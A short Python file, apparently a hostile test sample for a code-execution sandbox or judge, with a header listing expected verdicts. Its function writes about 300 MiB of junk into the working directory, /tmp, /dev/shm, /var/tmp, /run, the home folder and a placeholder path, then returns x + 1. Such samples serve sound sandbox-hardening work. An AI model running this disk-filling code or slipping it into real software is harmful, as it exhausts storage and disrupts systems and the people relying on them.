# /// hostile
# verdicts = ["accepted", "memory_limit", "runtime_error", "time_limit", "output_limit"]
# danger = "Writes until the disk is full, in every folder that takes a file."
# ///
import contextlib
import os


def f(x):
    block = b"d" * (1 << 20)
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), "@@OPEN_FOLDER@@"):
        with contextlib.suppress(OSError), open(os.path.join(folder, "fill"), "wb", buffering=0) as sink:
            for _ in range(300):
                sink.write(block)
    return x + 1
